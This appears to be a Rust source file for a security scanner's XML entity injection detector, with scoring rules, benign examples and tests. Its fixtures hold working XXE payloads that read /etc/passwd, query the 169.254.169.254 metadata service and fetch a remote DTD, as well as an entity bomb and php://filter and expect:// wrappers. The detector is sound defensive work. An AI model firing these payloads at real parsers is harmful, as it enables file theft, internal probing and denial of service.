//! Entities of XML: files and hosts that a document names, and documents that grow.

use bartizan_model::{Attack, Confidence, Cwe, Input, ItemMeta, Owasp, Severity, Stage, Status};

use crate::detectors::injection::{
    Found,
    doctype::{Doctype, Entity, External, Growth, Value},
    example,
    prefilter::{Family, Scan, Suspect},
    report,
};
use crate::{
    detectors::{DetectorExample, DetectorItem, Hit, Key, Lane},
    facts::Facts,
};

/// The detector.
pub static DETECTOR: DetectorItem = DetectorItem {
    meta: ItemMeta {
        code: "BZ-D010",
        name: "xml-entity-injection",
        title: "XML entity injection",
        severity: Severity::High,
        confidence: Confidence::Medium,
        status: Status::Stable,
        owasp: Some(Owasp::Api8),
        cwe: &[Cwe(611), Cwe(776)],
        attack: &[Attack("T1190"), Attack("T1499")],
        inputs: &[Input::RequestHead, Input::RequestBody],
        what: "Reads the document type of each XML document in a request, of the body and of values, and the entities that it declares: external ones that name a file, a wrapper or another host, parameters that declare further entities, and internal ones that refer to each other until they are a thousand times as long (an entity bomb). Nothing is resolved: what they would grow to is computed. A document type without entities, as XHTML and property lists have, entities that stand for a word or a character, and what public catalogues know are benign. A declaration that stands within other text stays at low confidence. Scores from 80 are high, from 55 medium, from 30 low confidence; an answer with the loot of such an attack adds 15.",
        why: "A parser that resolves entities reads local files and asks internal hosts for whoever wrote the document, or runs out of memory by a few hundred bytes.",
        fix: "Turn document types off in the XML parser (SOAP forbids them, XML for APIs needs none); else turn external entities off and limit how far entities may grow.",
        references: &["CWE-611", "CWE-776", "XML 1.0, sections 2.8 and 4.2", "SOAP 1.1, section 3"],
    },
    class: Family::XmlEntity.class(),
    key: Key::None,
    stage: Stage::Probing,
    lane: Lane::Leaves(run),
    examples: EXAMPLES,
};

fn run(facts: &Facts<'_>, scan: &Scan<'_>, out: &mut Vec<Hit>) {
    report(facts, scan, Family::XmlEntity, Severity::High, judge, out);
}

/// A request of an example with XML as its body.
fn xml(body: &'static str) -> Vec<bartizan_model::Exchange> {
    let mut exchange = example("/v1/import", body);
    exchange.request.headers = [("content-type", "application/xml")].into_iter().collect();
    vec![exchange]
}

const EXAMPLES: &[DetectorExample] = &[
    DetectorExample {
        name: "A local file as an entity",
        fires: true,
        exchanges: || {
            xml(
                "<?xml version=\"1.0\"?><!DOCTYPE o [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><o><id>&x;</id></o>",
            )
        },
    },
    DetectorExample {
        name: "An internal host as an entity",
        fires: true,
        exchanges: || {
            xml(
                "<!DOCTYPE o [<!ENTITY x SYSTEM 'http://169.254.169.254/latest/meta-data/'>]><o>&x;</o>",
            )
        },
    },
    DetectorExample {
        name: "A parameter that fetches declarations",
        fires: true,
        exchanges: || {
            xml("<!DOCTYPE o [<!ENTITY % d SYSTEM \"http://203.0.113.9/e.dtd\"> %d;]><o>1</o>")
        },
    },
    DetectorExample {
        name: "An entity bomb",
        fires: true,
        exchanges: || {
            xml(
                "<!DOCTYPE z [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><z>&f;</z>",
            )
        },
    },
    DetectorExample {
        name: "A document in a value of JSON",
        fires: true,
        exchanges: || {
            vec![example(
                "/v1/render",
                "{\"svg\": \"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/hostname'>]><svg><text>&x;</text></svg>\"}",
            )]
        },
    },
    DetectorExample {
        name: "A page of XHTML",
        fires: false,
        exchanges: || {
            xml(
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html><body>Hello</body></html>",
            )
        },
    },
    DetectorExample {
        name: "A property list",
        fires: false,
        exchanges: || {
            xml(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist version=\"1.0\"><dict><key>A</key><true/></dict></plist>",
            )
        },
    },
    DetectorExample {
        name: "An order in cXML",
        fires: false,
        exchanges: || {
            xml(
                "<?xml version=\"1.0\"?><!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd\"><cXML><Header/></cXML>",
            )
        },
    },
    DetectorExample {
        name: "A drawing with names for its namespaces",
        fires: false,
        exchanges: || {
            xml(
                "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\"><!ENTITY nbsp \"&#160;\">]><svg xmlns=\"&ns_svg;\"/>",
            )
        },
    },
    DetectorExample {
        name: "A question about entities",
        fires: false,
        exchanges: || {
            vec![example(
                "/v1/posts",
                "{\"text\": \"Why does my parser refuse <!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]> since the update? I only want to test it.\"}",
            )]
        },
    },
];

/// What a document may grow to by its entities before that is noticed, and before it is an attack, in bytes.
const NOTED_GROWTH: u64 = 16 * 1024;
const HOSTILE_GROWTH: u64 = 256 * 1024;
/// How many times as long as its declarations it is at least.
const TIMES: u64 = 10;
/// An entity of so many bytes, referred to again and again, is a bomb of one level.
const LONG_VALUE: usize = 4 * 1024;
/// Most that a declaration within other text is worth.
const MENTIONED: u8 = 45;

fn judge(suspect: &Suspect<'_>) -> Option<Found> {
    let doctype = Doctype::read(&suspect.text);
    let size = suspect.text.len() as u64;
    let external = doctype.external.and_then(|external| rated(subset(external)));
    let entities = doctype.entities.iter().filter_map(|one| rated(entity(one)));
    let all = external.into_iter().chain(entities).chain(rated(growth(&doctype, size)));
    let mut best = all.fold(None, |best, found| Found::best(best, Some(found)))?;
    if !is_document(suspect) {
        best.score = best.score.min(MENTIONED);
    }
    Some(best)
}

/// Whether a parser of XML reads the document type: the decoder did, or the value begins as a document does.
fn is_document(suspect: &Suspect<'_>) -> bool {
    let text = suspect.text.trim_start_matches('\u{feff}').trim_ascii_start();
    suspect.node.key() == "!DOCTYPE" || ["<?xml", "<!DOCTYPE"].iter().any(|s| text.starts_with(s))
}

/// A score and its rule; 0 is none.
type Rated = (u8, &'static str);

fn rated((score, rule): Rated) -> Option<Found> {
    (score > 0).then(|| Found::new(score, rule, "declares in its document type"))
}

/// Where something outside of the document is.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Outside {
    /// A file of the machine, or a wrapper of the language.
    Local,
    /// Another host.
    Host,
    /// Beside the document, or where catalogues know it.
    Known,
}

/// Hosts of public document types.
const PUBLIC_HOSTS: &[&str] =
    &["www.w3.org", "www.apple.com", "xml.cxml.org", "www.oasis-open.org", "docbook.org"];

impl Outside {
    fn of(system: &str) -> Self {
        let system = system.trim();
        let scheme = system.split_once(':').map(|(scheme, _)| scheme);
        // A letter of a drive is none.
        let scheme = scheme.filter(|s| s.len() > 1 && s.bytes().all(|b| b.is_ascii_alphanumeric()));
        let is_absolute = system.starts_with(['/', '\\']) || system.get(1..2) == Some(":");
        match scheme.map(str::to_ascii_lowercase).as_deref() {
            Some("http" | "https" | "ftp") => {
                let host = system.split('/').nth(2).unwrap_or_default();
                let is_public = PUBLIC_HOSTS.iter().any(|known| host.eq_ignore_ascii_case(known));
                if is_public { Self::Known } else { Self::Host }
            }
            None if system.starts_with("//") => Self::Host,
            None if is_absolute || system.contains("..") => Self::Local,
            Some("urn" | "about") | None => Self::Known,
            Some(_) => Self::Local,
        }
    }
}

fn entity(entity: &Entity<'_>) -> Rated {
    let external = match entity.value {
        Value::External(external) => external,
        Value::Internal(value) if memchr::memmem::find(value.as_bytes(), b"<!ENTITY").is_some() => {
            return (88, "a parameter that declares entities");
        }
        Value::Internal(value) if value.len() >= LONG_VALUE => {
            return (58, "an entity as long as a document");
        }
        Value::Internal(_) => return (0, ""),
    };
    match (Outside::of(external.system), entity.is_parameter) {
        (Outside::Local, _) => (92, "an external entity of a local file"),
        (Outside::Host, true) => (88, "declarations of another host"),
        (Outside::Host, false) => (86, "an external entity of another host"),
        (Outside::Known, _) if external.is_public => (0, ""),
        (Outside::Known, _) => (MENTIONED, "an external entity"),
    }
}

/// The part of a document type that is elsewhere.
fn subset(external: External<'_>) -> Rated {
    let is_declarations = external.system.trim().to_ascii_lowercase().ends_with(".dtd");
    match Outside::of(external.system) {
        Outside::Known => (0, ""),
        _ if external.is_public && is_declarations => (0, ""),
        // Partners name document types of theirs, and old programs those that they came with.
        _ if is_declarations => (40, "a document type that is elsewhere"),
        Outside::Local => (82, "a document type of a local file"),
        Outside::Host => (58, "a document type of another host"),
    }
}

fn growth(doctype: &Doctype<'_>, size: u64) -> Rated {
    match doctype.growth() {
        Growth::Endless => (86, "entities that refer to themselves"),
        Growth::Bytes(bytes) if bytes < size.saturating_mul(TIMES) => (0, ""),
        Growth::Bytes(HOSTILE_GROWTH..) => (94, "an entity bomb"),
        Growth::Bytes(NOTED_GROWTH..) => (60, "entities that grow"),
        Growth::Bytes(_) => (0, ""),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_outside_is_told_by_where_it_is() {
        use Outside::{Host, Known, Local};
        for (system, expected) in [
            ("file:///etc/passwd", Local),
            ("FILE:/c:/boot.ini", Local),
            ("php://filter/convert.base64-encode/resource=index.php", Local),
            ("expect://id", Local),
            ("jar:http://h/a!/b", Local),
            ("/etc/passwd", Local),
            ("\\\\host\\share", Local),
            ("c:/windows/win.ini", Local),
            ("../../secret", Local),
            ("http://127.0.0.1:8080/", Host),
            (" HTTPS://h/x", Host),
            ("//h/x", Host),
            ("http://www.w3.org.evil.example/x", Host),
            ("http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd", Known),
            ("chapter1.xml", Known),
            ("about:legacy-compat", Known),
            ("", Known),
        ] {
            assert!(Outside::of(system) == expected, "{system}");
        }
    }

    #[test]
    fn rules_rate_what_they_say() {
        let best = |text: &str| {
            let doctype = Doctype::read(text);
            let entities = doctype.entities.iter().map(entity);
            let all = entities.chain(doctype.external.map(subset));
            all.chain([growth(&doctype, text.len() as u64)]).map(|(score, _)| score).max()
        };
        let long = format!("<!DOCTYPE a [<!ENTITY b '{}'>]>", "x".repeat(LONG_VALUE));
        for (text, score) in [
            ("<!DOCTYPE a>", 0),
            ("<!DOCTYPE a [<!ENTITY who 'ACME Ltd'>]>", 0),
            ("<!DOCTYPE a [<!ENTITY c SYSTEM 'chapter.xml'>]>", MENTIONED),
            ("<!DOCTYPE a [<!ENTITY % l PUBLIC '-//W3C//ENTITIES Latin 1' 'lat1.ent'>]>", 0),
            ("<!DOCTYPE a [<!ENTITY % e \"<!ENTITY x 'y'>\">]>", 88),
            ("<!DOCTYPE a SYSTEM 'file:///etc/passwd'>", 82),
            ("<!DOCTYPE a SYSTEM 'http://203.0.113.9/x'>", 58),
            ("<!DOCTYPE a SYSTEM 'http://partner.example/order.dtd'>", 40),
            ("<!DOCTYPE a SYSTEM 'file://localhost/System/Library/DTDs/PropertyList.dtd'>", 40),
            ("<!DOCTYPE a [<!ENTITY b '&b;'>]>", 86),
            (&long, 58),
        ] {
            assert_eq!(best(text), Some(score), "{text}");
        }
    }
}
